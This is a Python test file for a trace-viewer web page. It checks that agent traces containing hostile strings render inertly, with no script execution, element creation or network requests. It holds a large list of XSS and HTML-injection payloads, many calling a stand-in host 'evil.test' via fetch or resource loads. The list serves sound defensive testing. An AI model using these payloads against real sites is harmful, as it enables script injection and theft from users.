"""Hostile traces: whatever they contain, nothing runs, nothing is loaded, nothing is sent."""

from __future__ import annotations

from itertools import product
from typing import Any

import pytest

from offbook.trace import Event
from offbook.trace import events as names
from offbook.viewer import PageTrace, render_page
from tests.viewer.conftest import Opened, OpenPage

pytestmark = pytest.mark.slow

# A payload that runs sets window.ran, or requests something of this host.
RUN = "window.ran=1;fetch('http://evil.test/x')"
TAGS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script/src='data:text/javascript,{RUN}'></script>",
    "<script src=http://evil.test/x.js></script>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg onload="{RUN}">',
    f'<svg><animate onbegin="{RUN}" attributeName=x></svg>',
    f'<svg><set onbegin="{RUN}" attributeName=x></svg>',
    "<svg><use href='http://evil.test/x.svg#a'></use></svg>",
    "<svg><image href='http://evil.test/x.png'></svg>",
    "<svg><foreignObject><iframe src='http://evil.test/x'></iframe></foreignObject></svg>",
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<img src=x onerror="{RUN}">',
    "<img src=http://evil.test/x.png>",
    "<img srcset='http://evil.test/x.png 1x'>",
    f"<img src=x:x onerror={RUN}//",
    f'<image src=x onerror="{RUN}">',
    f'<body onload="{RUN}">',
    f'<body onpageshow="{RUN}">',
    "<body background=http://evil.test/x.png>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "<iframe src=http://evil.test/x></iframe>",
    f'<iframe onload="{RUN}"></iframe>',
    "<frameset><frame src=http://evil.test/x></frameset>",
    "<object data=http://evil.test/x></object>",
    f'<object data="javascript:{RUN}"></object>',
    "<embed src=http://evil.test/x>",
    f'<embed src="javascript:{RUN}">',
    "<applet code=http://evil.test/x></applet>",
    f'<video onerror="{RUN}"><source src=x></video>',
    "<video poster=http://evil.test/x.png></video>",
    f'<audio src=x onerror="{RUN}"></audio>',
    "<audio src=http://evil.test/x></audio>",
    "<track src=http://evil.test/x>",
    f'<input autofocus onfocus="{RUN}">',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<textarea autofocus onfocus="{RUN}"></textarea>',
    f'<button autofocus onfocus="{RUN}">x</button>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<a href="javascript:{RUN}">x</a>',
    "<a href=http://evil.test/x ping=http://evil.test/ping>x</a>",
    f'<a autofocus tabindex=1 onfocus="{RUN}">x</a>',
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=prefetch href=http://evil.test/x>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<link rel=preconnect href=http://evil.test>",
    "<link rel=manifest href=http://evil.test/x>",
    "<link rel=modulepreload href=http://evil.test/x.js>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<style>*{background:url(http://evil.test/x.png)}</style>",
    '<div style="background:url(http://evil.test/x.png)">x</div>',
    '<div style="behavior:url(http://evil.test/x)">x</div>',
    f'<div style="animation:a 1s" onanimationstart="{RUN}">x</div>',
    "<base href=http://evil.test/>",
    f'<base href="javascript:{RUN}//">',
    '<meta http-equiv=refresh content="0;url=http://evil.test/x">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f'<form action="javascript:{RUN}"><input type=submit autofocus></form>',
    "<form action=http://evil.test/x><input name=q></form>",
    f'<isindex type=image src=1 onerror="{RUN}">',
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<title></title><script>{RUN}</script>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<xmp></xmp><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f'<x contenteditable onblur="{RUN}" autofocus>x</x>',
    f'<x onclick="{RUN}">x</x>',
    f'<portal src=http://evil.test/x onload="{RUN}"></portal>',
    f'<dialog open onclose="{RUN}">x</dialog>',
    f'<keygen autofocus onfocus="{RUN}">',
    f'<bgsound src="javascript:{RUN}">',
    f'<table background="javascript:{RUN}"></table>',
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script\x00>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f'<img """><script>{RUN}</script>">',
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"` onfocus=`{RUN}` autofocus=`",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"}}</style><script>{RUN}</script>",
    f"*/</script><script>{RUN}</script>/*",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\ufeff<script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\u2028{RUN}\u2029",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "http://evil.test/x",
    "//evil.test/x",
    "vbscript:msgbox(1)",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"';{RUN};'",
    f'";{RUN};"',
    f"`;{RUN};`",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "%DATA%",
    "%SCRIPT%",
    f"\x1b]8;;http://evil.test/x\x1b\\<script>{RUN}</script>\x1b]8;;\x1b\\",
    "\x1b[31;url(http://evil.test/x)m",
    "\x1b]1337;File=inline=1:aGk=\x07",
    "\x1b[38;2;1;2;expression(alert(1))m red",
]

NAMES = sorted(
    value
    for key, value in vars(names).items()
    if key.isupper() and isinstance(value, str) and ("." in value or key in {"HANDOFF", "PLAN"})
    if value not in {names.HEADER, names.FORMAT}
)
OTHERS = [
    *("ui.confirm", "ui.notify", "hook.turn_end", "session.extension", "session.command"),
    *("session.error", "cell.write", "cell.compute", "cell.send", "cell.effect", "cell.error"),
    *("fault.injected", "iteration.summary", "process.event", "process.result", "cassette.drift"),
    *("isolation.refused", "event.orphaned", "turn.end", "custom"),
]


def every_field(payload: str) -> dict[str, Any]:
    """Return data with the payload in every field that the page reads, as each type it reads."""
    blocks = [
        {"type": "text", "text": payload},
        {"type": "thinking", "text": payload},
        {"type": "tool_call", "id": payload, "name": payload, "arguments": {payload: payload}},
        {"type": "tool_result", "call_id": payload, "name": payload, "content": payload},
        {"type": "image", "url": payload, "media_type": payload, "data": payload},
        {"type": "foreign", "kind": payload, "data": {payload: payload}},
        {"type": payload},
    ]
    texts = [
        *("subject", "prompt", "output", "error", "reason", "hat", "exchange", "message"),
        *("status", "category", "about", "path", "tool", "call_id", "stop", "model"),
        *("id", "role", "text", "stream", "signal", "code", "command", "args"),
        *(
            "extension",
            "target",
            "persona",
            "step_name",
            "capability",
            "operation",
            "topic",
            "payload",
        ),
        *("source", "cell", "computed", "value", "by", "event", "method", "answer"),
        *("check", "agent", "from", "to", "system", "wire", "raw", "bytes"),
        *("effect"),
    ]
    return {
        **dict.fromkeys(texts, payload),
        "blocks": blocks,
        "content": blocks,
        "new": [{"role": payload, "blocks": blocks}],
        "count": 1,
        "head": "h",
        "tools": [{"name": payload, "description": payload, "schema": {payload: payload}}],
        "parameters": {payload: payload},
        "metadata": {payload: payload},
        "input": {"path": payload, "content": payload, payload: [payload]},
        "params": {payload: payload},
        "result": {payload: payload},
        "expected": {payload: [payload]},
        "actual": payload,
        "context": {payload: payload},
        "details": {payload: payload},
        payload: payload,
    }


def test_the_corpus_has_a_hundred_payloads_for_every_type_of_event() -> None:
    assert len(set(TAGS)) >= 100
    assert len(NAMES) >= 30


def assert_inert(opened: Opened) -> None:
    """The browser ran no script of the trace, made no element of it and sent nothing."""
    assert opened.page.evaluate(PROBE) == {"ran": None, "foreign": [], "scripts": 1, "names": []}
    assert [url for url in opened.requests if not url.startswith(("file://", "blob:"))] == []
    assert opened.messages == []


PROBE = """() => ({
  ran: window.ran ?? null,
  foreign: [...document.querySelectorAll(
    'img, iframe, object, embed, video, audio, link, base, form, svg, math, template, a')]
    .map(e => e.outerHTML),
  scripts: document.scripts.length,
  names: [...document.querySelectorAll('#app *')].flatMap(e => [...e.attributes])
    .map(a => a.name).filter(n => n.startsWith('on') || n === 'href' || n === 'src'),
})"""

SCROLL = """async () => {
  const wait = () => new Promise(done => setTimeout(() => requestAnimationFrame(done), 5));
  const list = document.querySelector('.list');
  let seen = new Set();
  for (let top = 0; top < list.scrollHeight; top += list.clientHeight) {
    list.scrollTop = top;
    const last = Math.floor((list.scrollTop + list.clientHeight - 1) / 28);
    for (let i = 0; i < 200 && !document.getElementById(`row-${last}`); i++) await wait();
    for (const row of list.querySelectorAll('.row')) seen.add(row.dataset.index);
  }
  return seen.size;
}"""

OPEN_ALL = """async () => {
  const wait = () => new Promise(done => setTimeout(() => requestAnimationFrame(done), 5));
  let tabs = 0;
  const rows = Number(document.querySelector('.list .row').getAttribute('aria-setsize'));
  const list = document.querySelector('.list');
  for (let n = 0; n < rows; n++) {
    document.querySelector('.panel')?.remove();
    list.dispatchEvent(new KeyboardEvent('keydown', { key: n ? 'ArrowDown' : 'Home' }));
    const filled = () => document.querySelector('.panel')?.children.length;
    for (let i = 0; i < 100 && !filled(); i++) await wait();
    for (let tab = 0; tab < document.querySelectorAll('[role=tab]').length; tab++, tabs++) {
      document.querySelectorAll('[role=tab]')[tab].click();
      await wait();
      for (let level = 0; level < 3; level++) {
        document.querySelectorAll('.panel details:not([open])').forEach(d => { d.open = true; });
        await wait();
      }
      document.querySelectorAll('.panel button.more').forEach(button => button.click());
    }
  }
  return [rows, tabs];
}"""


def test_no_payload_in_a_row_of_any_type_is_interpreted(open_html: OpenPage) -> None:
    events = [
        Event(number, name, every_field(payload), number + 1, payload, {payload: payload}, payload)
        for number, (name, payload) in enumerate(product([*NAMES, *OTHERS], TAGS))
    ]
    trace = PageTrace(TAGS[1], events, TAGS[0])
    opened = open_html(render_page([trace], title=TAGS[1]), "#trace=1&all=1", size=(1280, 4000))
    assert opened.page.evaluate(SCROLL) == len(events)
    assert_inert(opened)


def test_no_payload_in_a_field_of_any_type_is_interpreted(open_html: OpenPage) -> None:
    """Each event has every payload in each of its fields, and each one is opened in all tabs."""
    whole = "\n".join(TAGS)
    data = every_field(whole) | {"fields": {payload: payload for payload in TAGS}}
    events = [Event(n, name, data, n + 1) for n, name in enumerate([*NAMES, *OTHERS])]
    opened = open_html(render_page([PageTrace("t", events)]), "#trace=1&all=1")
    opened.page.wait_for_selector(".list .row")
    rows, tabs = opened.page.evaluate(OPEN_ALL)
    assert rows == len(events)
    assert tabs > 2 * rows
    assert_inert(opened)


def test_no_field_of_an_eval_run_is_interpreted(open_html: OpenPage) -> None:
    records: list[dict[str, Any]] = [{"run": {"name": TAGS[0], "pass": False, "stopped": TAGS[1]}}]
    for payload in TAGS:
        verdict = {"check": payload, "status": "fail", "message": payload, "expected": payload}
        fields = dict.fromkeys(("id", "label", "severity", "error", "output", "trace"), payload)
        case = {**fields, "trial": payload, "status": "fail", "verdicts": [verdict]}
        records.append({"case": {**case, "metrics": {payload: payload}}})
    opened = open_html(render_page(records=records))
    for button in opened.page.locator(".run tbody tr td:first-child button").all()[:30]:
        button.click()
    assert opened.page.evaluate("window.ran ?? null") is None
    assert opened.page.locator("img, iframe, svg, a, form, link").count() == 0
    assert [url for url in opened.requests if not url.startswith(("file://", "blob:"))] == []


def test_the_policy_would_stop_a_script_that_got_in(open_html: OpenPage) -> None:
    """The second line of defence: the page itself tries, and the browser refuses."""
    opened = open_html(render_page([PageTrace("t", [Event(0, "x")])]))
    attempts = opened.page.evaluate(
        """async () => {
        const tried = {};
        const attempt = async (name, act) => {
          try { await act(); tried[name] = 'done'; } catch { tried[name] = 'refused'; }
        };
        await attempt('html', () => { document.body.innerHTML = '<b>x</b>'; });
        await attempt('fetch', () => fetch('http://evil.test/x'));
        const script = document.createElement('script');
        await attempt('script', () => { script.textContent = 'window.ran = 1'; });
        document.head.append(script);
        const handler = document.createElement('p');
        await attempt('handler', () => handler.setAttribute('onclick', 'window.ran = 1'));
        handler.click();
        return { ...tried, ran: window.ran ?? null };
        }"""
    )
    assert attempts["ran"] is None
    assert attempts["html"] == attempts["fetch"] == attempts["script"] == "refused"
